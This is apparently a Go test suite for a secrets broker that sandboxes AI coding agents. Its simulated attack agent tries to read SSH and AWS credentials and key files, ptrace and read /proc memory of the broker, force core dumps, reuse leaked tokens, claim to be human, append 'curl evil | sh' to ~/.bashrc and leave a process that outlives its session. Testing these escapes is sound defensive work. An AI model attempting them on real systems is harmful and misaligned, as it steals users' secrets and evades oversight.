package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/rand"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/llm-secrets/llms/internal/sandbox"
)

// The attack agent is this test binary under the name "attackagent"
// (testscript.Main dispatches on it): `llms agent` starts it in the
// sandbox, and it tries every attack, printing one line per attempt:
//
//	ATTEMPT <name> <allowed|refused> <detail>
//
// It never prints what it read: a detail is an errno, an exit status or a
// verdict.
const attackAgentName = "attackagent"

// Where the attack agent finds its targets (credential-looking names would
// be scrubbed from its environment, so these are plain).
const (
	envAttackStore = "ATTACK_STORE_DIR"
	envAttackHome  = "ATTACK_HOME_DIR"
	envAttackLLMS  = "ATTACK_LLMS_BIN"
	envAttackWork  = "ATTACK_WORK_DIR"
	// envAttackPhase "list-peek": the second session, whose token names no
	// program (list and peek start none, so a token pinned to programs
	// cannot list or peek), makes only the allowed list and peek.
	envAttackPhase = "ATTACK_PHASE"
)

func attackAgent() int {
	if phase := os.Getenv(envAttackPhase); strings.HasPrefix(phase, "launchbound") {
		return attackLaunchbound(phase)
	}
	store, home, llms, work := os.Getenv(envAttackStore), os.Getenv(envAttackHome), os.Getenv(envAttackLLMS), os.Getenv(envAttackWork)
	out := bufio.NewWriter(os.Stdout)
	defer out.Flush()
	report := func(name string, allowed bool, detail string) {
		verdict := "refused"
		if allowed {
			verdict = "allowed"
		}
		fmt.Fprintf(out, "ATTEMPT %s %s %s\n", name, verdict, strings.Join(strings.Fields(detail), " "))
	}
	errDetail := func(err error) string {
		if err == nil {
			return "succeeded"
		}
		var errno syscall.Errno
		if errors.As(err, &errno) {
			return "errno " + strconv.Itoa(int(errno)) + " (" + errno.Error() + ")"
		}
		return "error"
	}
	readFile := func(name, path string) {
		_, err := os.ReadFile(path)
		report(name, err == nil, errDetail(err))
	}
	// llmsRun runs the CLI inside the sandbox; env entries are added.
	llmsRun := func(stdin string, env []string, args ...string) (string, string, int) {
		cmd := exec.Command(llms, args...)
		cmd.Env = append(os.Environ(), env...)
		cmd.Stdin = strings.NewReader(stdin)
		var o, e bytes.Buffer
		cmd.Stdout, cmd.Stderr = &o, &e
		err := cmd.Run()
		code := 0
		if ee, ok := err.(*exec.ExitError); ok {
			code = ee.ExitCode()
		} else if err != nil {
			code = -1
		}
		return o.String(), e.String(), code
	}
	// firstLine is a short reason from an llms error (never holds a value).
	firstLine := func(s string) string {
		s, _, _ = strings.Cut(strings.TrimSpace(s), "\n")
		if len(s) > 120 {
			s = s[:120]
		}
		return s
	}
	cli := func(name string, stdin string, env []string, args ...string) {
		_, e, code := llmsRun(stdin, env, args...)
		report(name, code == 0, fmt.Sprintf("exit %d: %s", code, firstLine(e)))
	}

	if os.Getenv(envAttackPhase) == "gitsafe" {
		return attackGitsafe(report, llms, store, work)
	}
	if os.Getenv(envAttackPhase) == supervisorPhase {
		return attackSupervisor(report, llms, work)
	}
	if os.Getenv(envAttackPhase) == queuePhase {
		return attackQueue(report, llms)
	}
	if os.Getenv(envAttackPhase) == egressPhase {
		return attackEgress(report, llms)
	}
	if os.Getenv(envAttackPhase) == "oracle" {
		return attackOracle(report, llms)
	}
	if os.Getenv(envAttackPhase) == "pins" {
		return attackPins(llms, work, report)
	}
	if os.Getenv(envAttackPhase) == "list-peek" {
		o, e, code := llmsRun("", nil, "list")
		report("list", code == 0 && strings.TrimSpace(o) == "K", fmt.Sprintf("exit %d, lists %q %s", code, strings.Fields(o), firstLine(e)))
		o, e, code = llmsRun("", nil, "peek", "K")
		report("peek", code == 0 && strings.Contains(o, "K:") && strings.Contains(o, "fingerprint"), fmt.Sprintf("exit %d %s", code, firstLine(e)))
		return 0
	}

	// The store, its keys and state, and the user's credentials.
	readFile("read-identity.txt", filepath.Join(store, "identity.txt"))
	readFile("read-secrets/K.age", filepath.Join(store, "secrets", "K.age"))
	for _, sealed := range []string{"rootkeys.age", "session.age", "auditkey.age", "recipients.txt", "audit.jsonl"} {
		readFile("read-"+sealed, filepath.Join(store, sealed))
	}
	_, err := os.ReadDir(store)
	report("list-store-dir", err == nil, errDetail(err))
	// The stores where llms looks by default, which this launch does not
	// use ($LLM_SECRETS_DIR names another): they hold keys too.
	readFile("read-default-store-identity", filepath.Join(home, ".local", "share", "llm-secrets", "identity.txt"))
	readFile("read-XDG_DATA_HOME-store-identity", filepath.Join(os.Getenv("XDG_DATA_HOME"), "llm-secrets", "identity.txt"))
	// A descriptor the launcher inherited from the human's shell, opened
	// on a hidden file outside the sandbox: Landlock judges files when
	// they are opened, so it must not reach the agent at all.
	inherited := "none"
	if fds, err := os.ReadDir("/proc/self/fd"); err == nil {
		for _, e := range fds {
			fd, err := strconv.Atoi(e.Name())
			if err != nil || fd < 3 {
				continue
			}
			if l, err := os.Readlink("/proc/self/fd/" + e.Name()); err != nil || !strings.HasPrefix(l, store+"/") {
				continue
			}
			if n, err := unix.Pread(fd, make([]byte, 16), 0); err == nil && n > 0 {
				inherited = "descriptor " + e.Name() + " reads a file of the store"
			}
		}
	}
	report("read-inherited-descriptor", inherited != "none", inherited)
	readFile("read-~/.ssh/id_ed25519", filepath.Join(home, ".ssh", "id_ed25519"))
	readFile("read-~/.aws/credentials", filepath.Join(home, ".aws", "credentials"))
	if age, err := exec.LookPath("age"); err == nil {
		cmd := exec.Command(age, "-d", "-i", filepath.Join(store, "identity.txt"), filepath.Join(store, "secrets", "K.age"))
		o, err := cmd.Output()
		report("age-decrypt", err == nil && len(o) > 0, fmt.Sprintf("exit %d", cmd.ProcessState.ExitCode()))
	} else {
		report("age-decrypt", false, "age not installed")
	}

	// The kernel's key rings are per uid, not per sandbox: the user's
	// holds what the user's other programs keep there.
	_, err = unix.KeyctlGetKeyringID(unix.KEY_SPEC_USER_KEYRING, false)
	report("open-user-keyring", err == nil, errDetail(err))

	// The human's commands, pointed at the real store.
	real := []string{"LLM_SECRETS_DIR=" + store}
	cli("llms-macaroon-mint", "", real, "macaroon", "mint", "--secret", "K", "--ttl", "5m")
	cli("llms-session-start", "", real, "session-start", "--ttl", "1h")
	cli("llms-revoke-all", "", real, "revoke-all")
	cli("llms-set", "attacker-value\n", real, "set", "--stdin", "K")
	// Its own store, and a token from it used against the real broker.
	own := []string{"LLM_SECRETS_DIR=" + filepath.Join(work, "own-store"), "LLM_SECRETS_SOCKET="}
	_, _, c1 := llmsRun("", own, "init")
	_, _, c2 := llmsRun("", own, "session-start", "--ttl", "1h")
	forged, _, c3 := llmsRun("", own, "macaroon", "mint", "--secret", "K", "--ttl", "5m")
	report("own-store-made", c1 == 0 && c2 == 0 && c3 == 0, "init, session-start and mint in a store of its own")
	cli("own-store-token-used", "", []string{"LLM_SECRETS_MACAROON=" + strings.TrimSpace(forged)},
		"exec", "-i", "V=K", "--", "sh", "-c", `test -n "$V"`)

	// Writes that would persist: into the store, into a start-up file.
	err = os.WriteFile(filepath.Join(store, "secrets", "EVIL.age"), []byte("x"), 0o600)
	report("write-store-dir", err == nil, errDetail(err))
	f, err := os.OpenFile(filepath.Join(home, ".bashrc"), os.O_WRONLY|os.O_APPEND, 0)
	if err == nil {
		_, err = f.WriteString("curl evil | sh\n")
		f.Close()
	}
	report("append-~/.bashrc", err == nil, errDetail(err))

	// The broker (the launcher serves it, above our parent, the guard) and
	// a child it started with the secret in its environment, sleeping.
	broker := launcherOfAgent()
	child, stop := startSleeper(llms)
	defer stop()
	for _, t := range []struct {
		who string
		pid int
	}{{"broker", broker}, {"child", child}} {
		if t.pid <= 0 {
			report(t.who+"-found", false, "no such process")
			continue
		}
		for _, f := range []string{"environ", "mem", "maps", "auxv"} {
			readFile(fmt.Sprintf("read-/proc/%s/%s", t.who, f), fmt.Sprintf("/proc/%d/%s", t.pid, f))
		}
		err := unix.PtraceSeize(t.pid)
		if err == nil {
			unix.PtraceDetach(t.pid)
		}
		report("ptrace-"+t.who, err == nil, errDetail(err))
		err = unix.Kill(t.pid, 0)
		report("signal-"+t.who, err == nil, errDetail(err))
		// A resource limit makes the kernel signal for it (a CPU limit
		// kills): set one to its present value, which changes nothing
		// when it works.
		var lim unix.Rlimit
		err = unix.Prlimit(t.pid, unix.RLIMIT_CPU, nil, &lim)
		if err == nil {
			err = unix.Prlimit(t.pid, unix.RLIMIT_CPU, &lim, nil)
		}
		report("prlimit-"+t.who, err == nil, errDetail(err))
	}

	// A .git file naming a repository in a hidden directory: the broker,
	// outside the sandbox, must not read it (its remote) for the agent.
	alias := filepath.Join(work, "alias")
	if err := os.MkdirAll(alias, 0o700); err != nil {
		return setupFailed(err)
	}
	if err := os.WriteFile(filepath.Join(alias, ".git"), []byte("gitdir: "+filepath.Join(home, ".ssh", "repo", ".git")+"\n"), 0o600); err != nil {
		return setupFailed(err)
	}
	cmd := exec.Command(llms, "exec", "-i", "V=K", "--", "sh", "-c", "true")
	cmd.Dir = alias
	var aliasErr bytes.Buffer
	cmd.Stderr = &aliasErr
	err = cmd.Run()
	report("git-file-into-hidden-dir", err == nil, fmt.Sprintf("exit %d: %s", cmd.ProcessState.ExitCode(), firstLine(aliasErr.String())))

	// A core dump of a child holding the value: the agent raises the
	// child's core limit (prlimit is not a ptrace) and has the broker
	// relay SIGQUIT. The kernel here writes "core" where the child runs.
	stop()
	dumped := "no core file"
	sleeper := exec.Command(llms, "exec", "-i", "V=K", "--", "sleep", "30")
	if sleeper.Start() == nil {
		for deadline := time.Now().Add(5 * time.Second); time.Now().Before(deadline); time.Sleep(20 * time.Millisecond) {
			if pid := findChild(broker, "sleep"); pid > 0 {
				lim := unix.Rlimit{Cur: unix.RLIM_INFINITY, Max: unix.RLIM_INFINITY}
				if unix.Prlimit(pid, unix.RLIMIT_CORE, &lim, nil) != nil {
					lim.Max = 0
					unix.Prlimit(pid, unix.RLIMIT_CORE, nil, &lim)
					lim.Cur = lim.Max
					unix.Prlimit(pid, unix.RLIMIT_CORE, &lim, nil)
				}
				break
			}
		}
		sleeper.Process.Signal(syscall.SIGQUIT)
		sleeper.Wait()
	}
	if cores, _ := filepath.Glob(filepath.Join(work, "core*")); len(cores) > 0 {
		if fi, err := os.Stat(cores[0]); err == nil && fi.Size() > 0 {
			dumped = fmt.Sprintf("%s: %d bytes", filepath.Base(cores[0]), fi.Size())
		}
	}
	report("core-dump-of-child", dumped != "no core file", dumped)

	// The token, beyond what it was given; no token; a claimed identity.
	cli("token-other-secret", "", nil, "exec", "-i", "V=OTHER", "--", "sh", "-c", `test -n "$V"`)
	// A token the human minted earlier, for another secret, left where
	// llms's MCP set-up keeps one: hidden. The same token leaked into the
	// working tree is readable, and still not the agent's to use.
	_, err = os.ReadFile(filepath.Join(home, ".config", "llm-secrets", "mcp.token"))
	report("read-found-token", err == nil, errDetail(err))
	found, err := os.ReadFile(filepath.Join(work, "leaked.token"))
	if err != nil || len(found) == 0 {
		return setupFailed(fmt.Errorf("the leaked token: %q, %v", found, err))
	}
	cli("found-token-used", "", []string{"LLM_SECRETS_MACAROON=" + strings.TrimSpace(string(found))},
		"exec", "-i", "V=OTHER", "--", "sh", "-c", `test -n "$V"`)
	cli("token-other-program", "", nil, "exec", "-i", "V=K", "--", "env")
	cli("empty-token", "", []string{"LLM_SECRETS_MACAROON="}, "exec", "-i", "V=K", "--", "sh", "-c", `test -n "$V"`)
	noTok := slices.DeleteFunc(os.Environ(), func(e string) bool { return strings.HasPrefix(e, "LLM_SECRETS_MACAROON=") })
	cmd = exec.Command(llms, "exec", "-i", "V=K", "--", "sh", "-c", `test -n "$V"`)
	cmd.Env = append(noTok, "AI_AGENT=human")
	err = cmd.Run()
	report("no-token-claim-AI_AGENT=human", err == nil, fmt.Sprintf("exit %d", cmd.ProcessState.ExitCode()))
	cli("claim-AI_AGENT=human-other-secret", "", []string{"AI_AGENT=human"}, "exec", "-i", "V=OTHER", "--", "sh", "-c", `test -n "$V"`)

	// What it may do: exec the allowed program with the allowed secret,
	// its output redacted.
	o, e, code := llmsRun("", nil, "exec", "-i", "V=K", "--", "sh", "-c", `printf 'value=%s\n' "$V"`)
	report("exec-allowed", code == 0 && strings.Contains(o, "value=[REDACTED:K]"), fmt.Sprintf("exit %d, output redacted: %v %s", code, strings.Contains(o, "[REDACTED:K]"), firstLine(e)))

	// Left behind: a process that keeps replacing itself (fork, exit), so
	// that no pid lives long. The test checks it died with the agent.
	comet := exec.Command("sh", filepath.Join(work, "comet.sh"), filepath.Join(work, "comet"))
	report("comet-left-running", comet.Start() == nil, "forks and exits, over and over")
	return 0
}

// startSleeper starts `llms exec -i V=K -- sleep 30` through the broker
// and returns the sleeping child's pid (a child of the broker), and a
// function that ends it.
func startSleeper(llms string) (int, func()) {
	ctx, cancel := context.WithCancel(context.Background())
	cmd := exec.CommandContext(ctx, llms, "exec", "-i", "V=K", "--", "sleep", "30")
	if err := cmd.Start(); err != nil {
		cancel()
		return 0, func() {}
	}
	stop := func() { cancel(); cmd.Wait() }
	deadline := time.Now().Add(5 * time.Second)
	for time.Now().Before(deadline) {
		if pid := findChild(launcherOfAgent(), "sleep"); pid > 0 {
			return pid, stop
		}
		time.Sleep(20 * time.Millisecond)
	}
	return 0, stop
}

// findChild finds a child of parent running comm, through /proc.
func findChild(parent int, comm string) int {
	entries, _ := os.ReadDir("/proc")
	for _, e := range entries {
		pid, err := strconv.Atoi(e.Name())
		if err != nil {
			continue
		}
		stat, err := os.ReadFile("/proc/" + e.Name() + "/stat")
		if err != nil {
			continue
		}
		s := string(stat)
		open, close := strings.IndexByte(s, '('), strings.LastIndexByte(s, ')')
		if open < 0 || close < open {
			continue
		}
		fields := strings.Fields(s[close+1:])
		if len(fields) > 1 && s[open+1:close] == comm && fields[1] == strconv.Itoa(parent) {
			return pid
		}
	}
	return 0
}

// expected is each attempt's required outcome.
var expectedAttempts = map[string]string{
	"read-identity.txt": "refused", "read-secrets/K.age": "refused",
	"read-rootkeys.age": "refused", "read-session.age": "refused", "read-auditkey.age": "refused",
	"read-recipients.txt": "refused", "read-audit.jsonl": "refused", "list-store-dir": "refused",
	"open-user-keyring": "refused", "read-inherited-descriptor": "refused", "read-default-store-identity": "refused", "read-XDG_DATA_HOME-store-identity": "refused",
	"read-~/.ssh/id_ed25519": "refused", "read-~/.aws/credentials": "refused", "age-decrypt": "refused",
	"llms-macaroon-mint": "refused", "llms-session-start": "refused", "llms-revoke-all": "refused", "llms-set": "refused",
	"own-store-made": "allowed", "own-store-token-used": "refused",
	"write-store-dir": "refused", "append-~/.bashrc": "refused",
	"read-/proc/broker/environ": "refused", "read-/proc/broker/mem": "refused", "read-/proc/broker/maps": "refused", "read-/proc/broker/auxv": "refused",
	"ptrace-broker": "refused", "signal-broker": "refused", "prlimit-broker": "refused", "prlimit-child": "refused",
	"core-dump-of-child":       "refused",
	"read-/proc/child/environ": "refused", "read-/proc/child/mem": "refused", "read-/proc/child/maps": "refused", "read-/proc/child/auxv": "refused",
	"ptrace-child": "refused", "signal-child": "refused",
	"git-file-into-hidden-dir": "refused", "read-found-token": "refused", "found-token-used": "refused",
	"token-other-secret": "refused", "token-other-program": "refused", "empty-token": "refused",
	"no-token-claim-AI_AGENT=human": "refused", "claim-AI_AGENT=human-other-secret": "refused",
	"exec-allowed": "allowed", "list": "allowed", "peek": "allowed", "comet-left-running": "allowed",
}

// expectedDetail: refusals that must come from the gate itself (exit 3,
// access denied), not from something failing on the way.
var expectedDetail = map[string]string{
	"own-store-token-used": "exit 3", "token-other-secret": "exit 3", "git-file-into-hidden-dir": "cannot read the git repository",
	"found-token-used": "not the one this agent was launched with", "token-other-program": "exit 3",
	"empty-token": "exit 3", "no-token-claim-AI_AGENT=human": "exit 3", "claim-AI_AGENT=human-other-secret": "exit 3",
	"llms-macaroon-mint": "exit 3: llms: access denied: llms macaroon mint is for the human", "llms-session-start": "exit 3: llms: access denied: llms session-start is for the human",
	"llms-revoke-all": "exit 3: llms: access denied: llms revoke-all is for the human", "llms-set": "exit 3: llms: access denied: llms set is for the human",
}

// TestAgentModeAttacks launches `llms agent` around the attack agent and
// checks every attempt's outcome, then that the store is intact, the token
// died with the agent, and the canary appears nowhere.
func TestAgentModeAttacks(t *testing.T) { atEachAttackABI(t, agentModeAttacks) }

// needLandlock skips a test of agent mode on a kernel without Landlock
// (CI must have it).
func needLandlock(t *testing.T) {
	t.Helper()
	if sandbox.ABI() == 0 {
		if os.Getenv("CI") != "" {
			t.Fatal("CI needs a kernel with Landlock for agent mode")
		}
		t.Skip("no Landlock on this kernel")
	}
}

// atEachAttackABI runs attacks as a subtest at each Landlock ABI of
// attackABIs, through `llms agent --landlock-abi`.
func atEachAttackABI(t *testing.T, attacks func(t *testing.T, abi int)) {
	needLandlock(t)
	for _, abi := range attackABIs() {
		t.Run(fmt.Sprintf("abi%d", abi), func(t *testing.T) { attacks(t, abi) })
	}
}

// setupFailed ends an attack phase whose own preparation failed: the
// attempts after it would be refused for that reason and prove nothing.
func setupFailed(err error) int {
	fmt.Fprintln(os.Stderr, "attack phase: setting up:", err)
	return 2
}

// attackAgentPath makes the attack agent beside the llms binary bin: this
// test binary under the name attackAgentName.
func attackAgentPath(t *testing.T, bin string) string {
	t.Helper()
	agent := filepath.Join(filepath.Dir(bin), attackAgentName)
	self, err := os.Executable()
	mustDo(t, err)
	if err := os.Symlink(self, agent); err != nil {
		t.Fatal(err)
	}
	return agent
}

// attackABIs are the Landlock ABIs the attacks run at: this kernel's, and
// each lower level that users' kernels offer where it differs in what the
// sandbox can enforce (6: signal and abstract-socket scoping; 4: Ubuntu
// 24.04's 6.8; 1: the first). Every attack must fail at every level.
func attackABIs() []int {
	var out []int
	for _, abi := range []int{sandbox.ABI(), 6, 4, 1} {
		if abi <= sandbox.ABI() && !slices.Contains(out, abi) {
			out = append(out, abi)
		}
	}
	return out
}

// agentModeAttacks launches the attack agent confined at Landlock ABI abi.
func agentModeAttacks(t *testing.T, abi int) {
	raw := make([]byte, 12)
	rand.Read(raw)
	canary := "agent-canary-" + hex.EncodeToString(raw)
	forms := []string{canary, base64.StdEncoding.EncodeToString([]byte(canary)), hex.EncodeToString([]byte(canary))}

	root := t.TempDir()
	home, store, work, tmp := filepath.Join(root, "home"), filepath.Join(root, "store"), filepath.Join(root, "proj"), filepath.Join(root, "tmp")
	defaultStore, xdgStore := filepath.Join(home, ".local", "share", "llm-secrets"), filepath.Join(root, "xdg-data", "llm-secrets")
	for _, d := range []string{filepath.Join(home, ".ssh"), filepath.Join(home, ".aws"), work, tmp, defaultStore, xdgStore} {
		if err := os.MkdirAll(d, 0o700); err != nil {
			t.Fatal(err)
		}
	}
	mustDo(t, os.WriteFile(filepath.Join(home, ".ssh", "id_ed25519"), []byte(canary+"-ssh\n"), 0o600))
	// A git repository in a hidden directory, its remote naming the canary.
	hiddenRepo := filepath.Join(home, ".ssh", "repo", ".git")
	for _, d := range []string{"objects", "refs"} {
		mustDo(t, os.MkdirAll(filepath.Join(hiddenRepo, d), 0o700))
	}
	mustDo(t, os.WriteFile(filepath.Join(hiddenRepo, "HEAD"), []byte("ref: refs/heads/main\n"), 0o600))
	mustDo(t, os.WriteFile(filepath.Join(hiddenRepo, "config"), []byte("[remote \"origin\"]\n\turl = https://github.com/acme/"+canary+"\n"), 0o600))
	mustDo(t, os.WriteFile(filepath.Join(home, ".aws", "credentials"), []byte("aws_secret_access_key="+canary+"\n"), 0o600))
	mustDo(t, os.WriteFile(filepath.Join(home, ".bashrc"), []byte("# rc\n"), 0o644))
	// Stores where llms looks by default, beside the one $LLM_SECRETS_DIR
	// names for this launch.
	for _, d := range []string{defaultStore, xdgStore} {
		mustDo(t, os.WriteFile(filepath.Join(d, "identity.txt"), []byte("AGE-SECRET-KEY-"+canary+"\n"), 0o600))
	}

	bin := llmsBin(t)
	agent := attackAgentPath(t, bin)
	env := []string{"LLM_SECRETS_DIR=" + store, "HOME=" + home, "XDG_CONFIG_HOME=" + filepath.Join(home, ".config"),
		"XDG_DATA_HOME=" + filepath.Dir(xdgStore),
		"PATH=" + filepath.Dir(bin) + ":" + os.Getenv("PATH"), "TMPDIR=" + tmp, "GORACE=atexit_sleep_ms=0",
		"LLMS_TEST_PROCROOT=" + filepath.Join(root, ".proc"),
		envAttackStore + "=" + store, envAttackHome + "=" + home, envAttackLLMS + "=" + bin, envAttackWork + "=" + work}
	mustRun(t, bin, env, "", "init")
	mustRun(t, bin, env, canary, "set", "--stdin", "K")
	mustRun(t, bin, env, canary+"-other", "set", "--stdin", "OTHER")
	mustRun(t, bin, env, "", "session-start", "--ttl", "1h")
	// A token for OTHER that the human minted for an MCP client earlier.
	mustDo(t, os.MkdirAll(filepath.Join(home, ".config", "llm-secrets"), 0o700))
	otherToken := mustRun(t, bin, env, "", "macaroon", "mint", "--secret", "OTHER", "--ttl", "30m")
	mustDo(t, os.WriteFile(filepath.Join(home, ".config", "llm-secrets", "mcp.token"), []byte(otherToken), 0o600))
	mustDo(t, os.WriteFile(filepath.Join(work, "leaked.token"), []byte(otherToken), 0o600))

	// The process the agent leaves behind: it writes its pid, then forks
	// the next one and exits; comet.stop ends it, whatever the test says.
	mustDo(t, os.WriteFile(filepath.Join(work, "comet.sh"), []byte(`while :; do [ -e "$1.stop" ] && exit 0; echo $$ > "$1.pid"; sh "$0" "$1" & exit 0; done`+"\n"), 0o600))
	defer os.WriteFile(filepath.Join(work, "comet.stop"), nil, 0o600)

	// Two sessions: the attacks under a token for K and the programs sh and
	// sleep; then list and peek under a token for K alone.
	var out, errb bytes.Buffer
	for _, session := range [][]string{
		{"--cmd", "sh", "--cmd", "sleep"},
		nil,
	} {
		args := append([]string{"agent", "--agent", "claude-code", "--landlock-abi", strconv.Itoa(abi), "--secret", "K", "--ttl", "10m"}, session...)
		cmd := exec.Command(bin, append(args, "--", agent)...)
		cmd.Env, cmd.Dir = env, work
		if session == nil {
			cmd.Env = append(slices.Clone(env), envAttackPhase+"=list-peek")
		}
		cmd.Stdout, cmd.Stderr = &out, &errb
		// The human's shell leaked a descriptor on the identity into llms
		// (descriptor 4; 3 is the launcher's own).
		leaked, err := os.Open(filepath.Join(store, "identity.txt"))
		if err != nil {
			t.Fatal(err)
		}
		cmd.ExtraFiles = []*os.File{nil, leaked}
		start := time.Now()
		err = cmd.Run()
		leaked.Close()
		if err != nil {
			t.Fatalf("llms %v: %v\nstderr: %s", args, err, errb.String())
		}
		t.Logf("llms %s -- attackagent: %v", strings.Join(args, " "), time.Since(start).Round(time.Millisecond))
	}

	seen := map[string]bool{}
	for _, line := range strings.Split(strings.TrimSpace(out.String()), "\n") {
		f := strings.SplitN(line, " ", 4)
		if len(f) < 3 || f[0] != "ATTEMPT" {
			t.Errorf("unexpected agent output line %q", line)
			continue
		}
		name, got := f[1], f[2]
		detail := ""
		if len(f) == 4 {
			detail = f[3]
		}
		want, known := expectedAttempts[name]
		mark := "ok  "
		if !known || got != want || !strings.Contains(detail, expectedDetail[name]) {
			mark = "FAIL"
			t.Errorf("%s: %s (%s), want %s %s", name, got, detail, want, expectedDetail[name])
		}
		seen[name] = true
		t.Logf("%s %-36s %-8s %s", mark, name, got, detail)
	}
	for name := range expectedAttempts {
		if !seen[name] {
			t.Errorf("attempt %s was not made", name)
		}
	}

	// Nothing the agent left runs on: the comet's pid no longer changes,
	// and that process is gone (an empty file: killed while writing it).
	time.Sleep(100 * time.Millisecond)
	// No file at all: the comet was ended before it wrote one.
	readPid := func() []byte {
		b, err := os.ReadFile(filepath.Join(work, "comet.pid"))
		if err != nil && !errors.Is(err, fs.ErrNotExist) {
			t.Fatal(err)
		}
		return b
	}
	first := readPid()
	time.Sleep(200 * time.Millisecond)
	last := readPid()
	pid := strings.TrimSpace(string(last))
	if _, err := os.Stat("/proc/" + pid); string(first) != string(last) || (pid != "" && err == nil) {
		t.Errorf("a process that keeps forking outlived the agent (pid %q, then %q)", strings.TrimSpace(string(first)), pid)
	}

	// The store is as it was: the values, the session; no planted file.
	if _, err := os.Stat(filepath.Join(store, "secrets", "EVIL.age")); err == nil {
		t.Errorf("a file was planted in the store")
	}
	if b, _ := os.ReadFile(filepath.Join(home, ".bashrc")); string(b) != "# rc\n" {
		t.Errorf("~/.bashrc changed")
	}
	check := mustRun(t, bin, env, "", "exec", "-i", "V=K", "--", "sh", "-c", `test "$V" = "`+canary+`" && echo same`)
	if strings.TrimSpace(check) != "same" {
		t.Errorf("the value of K changed")
	}
	mustRun(t, bin, env, "", "session-info")
	// The token died with the agent: the audit shows it revoked.
	audit := mustRun(t, bin, env, "", "audit")
	if n := strings.Count(audit, "agent-end"); n != 2 || strings.Count(audit, "revoke ") < 2 {
		t.Errorf("the agents' tokens were not revoked at exit:\n%s", audit)
	}
	for _, form := range forms {
		if strings.Contains(out.String(), form) || strings.Contains(errb.String(), form) || strings.Contains(audit, form) {
			t.Errorf("the canary (or an encoding of it) appears in the output")
		}
	}
}

// TestAgentDiesWithItsLauncher: when llms agent is killed outright, the
// agent is killed too (a parent-death signal), rather than running on
// without its broker or anyone to end its tree.
func TestAgentDiesWithItsLauncher(t *testing.T) {
	if sandbox.ABI() == 0 {
		t.Skip("no Landlock on this kernel")
	}
	bin := llmsBin(t)
	root := t.TempDir()
	env := llmsEnv(filepath.Join(root, "store"))
	mustRun(t, bin, env, "", "init")
	work := filepath.Join(root, "proj")
	mustDo(t, os.Mkdir(work, 0o700))
	cmd := exec.Command(bin, "agent", "--agent", "codex", "--", "sleep", "300")
	cmd.Env, cmd.Dir = env, work
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer cmd.Wait()
	var agent int
	for deadline := time.Now().Add(10 * time.Second); agent == 0 && time.Now().Before(deadline); time.Sleep(10 * time.Millisecond) {
		agent = findChild(childOf(cmd.Process.Pid), "sleep")
	}
	if agent == 0 {
		cmd.Process.Kill()
		t.Fatal("the agent did not start")
	}
	cmd.Process.Kill()
	for deadline := time.Now().Add(5 * time.Second); time.Now().Before(deadline); time.Sleep(10 * time.Millisecond) {
		stat, err := os.ReadFile("/proc/" + strconv.Itoa(agent) + "/stat")
		if err != nil || strings.Contains(string(stat), ") Z ") {
			return
		}
	}
	unix.Kill(agent, unix.SIGKILL)
	t.Fatalf("the agent (pid %d) outlived its launcher", agent)
}

// attackLaunch is what a one-phase attack test starts from: a store in a
// throwaway root whose secret K holds a fresh canary, a live session, and
// the environment that runs llms and the attack agent in that phase.
type attackLaunch struct {
	canary, work, bin, agent string
	env                      []string
}

func newAttackLaunch(t *testing.T, phase string) attackLaunch {
	raw := make([]byte, 12)
	rand.Read(raw)
	l := attackLaunch{canary: "agent-canary-" + hex.EncodeToString(raw), bin: llmsBin(t)}
	root := t.TempDir()
	home, store := filepath.Join(root, "home"), filepath.Join(root, "store")
	l.work = filepath.Join(root, "proj")
	for _, d := range []string{home, l.work} {
		if err := os.MkdirAll(d, 0o700); err != nil {
			t.Fatal(err)
		}
	}
	l.agent = attackAgentPath(t, l.bin)
	l.env = []string{"LLM_SECRETS_DIR=" + store, "HOME=" + home, "PATH=" + filepath.Dir(l.bin) + ":" + os.Getenv("PATH"),
		"GORACE=atexit_sleep_ms=0", "LLMS_TEST_PROCROOT=" + filepath.Join(root, ".proc"),
		envAttackLLMS + "=" + l.bin, envAttackPhase + "=" + phase}
	mustRun(t, l.bin, l.env, "", "init")
	mustRun(t, l.bin, l.env, l.canary, "set", "--stdin", "K")
	mustRun(t, l.bin, l.env, "", "session-start", "--ttl", "1h")
	return l
}
